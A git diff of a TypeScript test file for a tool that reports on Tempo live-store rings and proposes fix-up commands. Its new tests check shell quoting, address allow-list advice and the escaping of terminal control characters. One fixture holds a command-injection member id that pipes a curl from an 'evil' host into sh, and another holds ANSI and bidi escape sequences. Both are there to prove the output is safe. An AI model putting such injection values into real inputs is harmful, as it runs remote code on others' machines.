@@ -1,6 +1,6 @@
 import t from 'tap';
 import { reportClients } from '../../src/control/report/clients.ts';
-import { findingsOf, type SilentPorts } from '../../src/control/report/findings.ts';
+import { findingsOf, type LookAgain, type SilentPorts } from '../../src/control/report/findings.ts';
 import { reportRing, reportRings, ringFacts } from '../../src/control/report/rings.ts';
 import { ringText } from '../../src/control/report/table.ts';
 import { advanceStage } from '../../src/control/stage/advance.ts';
@@ -15,10 +15,19 @@ function stageOf(catalog: Catalog, nowMs = NOW, before: Stage | null = null): St
   return advanceStage(before, catalog, nowMs, LINGER);
 }
 
+const lookAgain: LookAgain = (allow) => ['look', ...allow].join(' ');
+
+/** As `findings`, but what is proposed: `code: command`. */
+function commands(ring: Ring, silent: SilentPorts | null = null): string[] {
+  const catalog = catalogOf(7, ring);
+  const facts = ringFacts(ring.name, { catalog, stage: stageOf(catalog), nowMs: NOW });
+  return facts ? findingsOf(facts, silent, lookAgain).map(({ code, command }) => `${code}: ${command}`) : ['no such ring'];
+}
+
 function findings(ring: Ring, silent: SilentPorts | null = null): string[] {
   const catalog = catalogOf(7, ring);
   const facts = ringFacts(ring.name, { catalog, stage: stageOf(catalog), nowMs: NOW });
-  return facts ? findingsOf(facts, silent).map(({ level, code, text }) => `${level} ${code}: ${text}`) : ['no such ring'];
+  return facts ? findingsOf(facts, silent, lookAgain).map(({ level, code, text }) => `${level} ${code}: ${text}`) : ['no such ring'];
 }
 
 t.test('GET /api/rings: each ring with its sources, as the contract says', async (t) => {
@@ -177,7 +186,7 @@ t.test('findings: sources, addresses, ports', async (t) => {
     'problem address-refused: live-store-zone-b-1: refused: address "x" is not host:port',
   ]);
   t.same(findings(ringOf(RING, fourMembers()), new Map([[a0.id, 'connection refused']])), [
-    'problem port-silent: live-store-zone-a-0: nothing answers at 10.0.0.10:9096 (connection refused)',
+    'problem port-silent: live-store-zone-a-0: nothing answers from here at 10.0.0.10:9096 (connection refused)',
   ]);
   t.same(findings(ringOf(RING, [{ ...a0, address: '10.0.0.10:9095' }, b0])), [
     "note no-instance-port: 1 of 2 members advertise 9095, Tempo's own gRPC port: queriers call the live-store itself, not a sidecar beside it",
@@ -187,13 +196,51 @@ t.test('findings: sources, addresses, ports', async (t) => {
   ]);
 });
 
+t.test('a source that works in part is a warning, one that fails a problem; advice is for its kind', async (t) => {
+  const source = { name: 'tempo', ok: true, asOfMs: NOW, error: 'http://a:3200: connect ECONNREFUSED', expired: false };
+  const ring = (fields: object): Ring => ringOf(RING, fourMembers(), { sources: [{ ...source, ...fields }] });
+  t.same(findings(ring({})), ['warning source-partly-failed: source tempo: http://a:3200: connect ECONNREFUSED']);
+  t.same(commands(ring({ ok: false, asOfMs: null })), ['source-failed: ringway ring show --tempo http://<querier>:3200']);
+  t.same(commands(ring({ ok: false, asOfMs: null, name: 'static' })), ['source-failed: ']);
+});
+
+t.test('what is proposed can be copied: words are quoted, refused addresses are allowed unless that is dangerous', async (t) => {
+  const [a0, , b0] = fourMembers() as [MergedMember, MergedMember, MergedMember];
+  const hostile = { ...a0, id: "x;curl$IFS'evil'|sh", zone: 'zone-c' };
+  t.same(commands(ringOf('other', [hostile, b0]), new Map([[hostile.id, 'connection refused']])), [
+    "port-silent: ringway sidecar inbound --listen :9096 --ring other --member 'x;curl$IFS'\\''evil'\\''|sh' --control <control>:18000",
+  ]);
+  const refused = (address: string, reason: string): MergedMember => ({ ...b0, address, refused: `address "${address}" ${reason}` });
+  const special = (what: string): string => `is a ${what} address (allowed only when allowedAddresses lists it)`;
+  t.same(commands(ringOf(RING, [a0, refused('127.0.0.3:9096', special('loopback'))])), ['address-refused: look 127.0.0.0/8']);
+  t.same(commands(ringOf(RING, [a0, refused('10.9.9.9:9096', 'is not in allowedAddresses')])), ['address-refused: look 10.9.9.9']);
+  t.same(commands(ringOf(RING, [a0, refused('169.254.169.254:80', special('metadata'))])), ['address-refused: ']);
+});
+
+t.test('what more than three members have in common is one finding', async (t) => {
+  const silent = new Map(fourMembers().map(({ id }) => [id, 'connection refused']));
+  t.same(findings(ringOf(RING, fourMembers()), silent), [
+    'problem port-silent: 4 of 4 members, the first is live-store-zone-a-0: nothing answers from here at 10.0.0.10:9096 (connection refused)',
+  ]);
+});
+
+t.test('texts of a ring cannot steer a terminal or add a line', async (t) => {
+  const id = 'a\u001b[31m\nfindings: none\u202e';
+  const catalog = catalogOf(1, ringOf(RING, [memberOf(id, { zone: '\u009b2J', refused: 'id' })]));
+  const facts = ringFacts(RING, { catalog, stage: stageOf(catalog), nowMs: NOW });
+  if (!facts) throw new Error('no facts');
+  const text = ringText(facts, findingsOf(facts, null, lookAgain), '');
+  t.notMatch(text.replaceAll('\n', ''), /[\p{Cc}\p{Cf}]/u);
+  t.match(text, 'a\\u{1b}[31m\\u{a}findings: none\\u{202e}');
+});
+
 t.test('the text of a ring', async (t) => {
   const [a0, a1, b0] = fourMembers() as [MergedMember, MergedMember, MergedMember, MergedMember];
   const catalog = catalogOf(7, ringOf(RING, [a0, a1, { ...b0, heartbeatMs: null }]));
   const facts = ringFacts(RING, { catalog, stage: stageOf(catalog), nowMs: NOW + 3_000 });
   if (!facts) throw new Error('no facts');
   t.equal(
-    ringText(facts, findingsOf(facts, null), 'ringway control --tempo http://querier:3200'),
+    ringText(facts, findingsOf(facts, null, lookAgain), 'ringway control --tempo http://querier:3200'),
     `ring live-store: 3 members, 2 partitions, 2 zones
 sources: tempo read 3 s ago
 
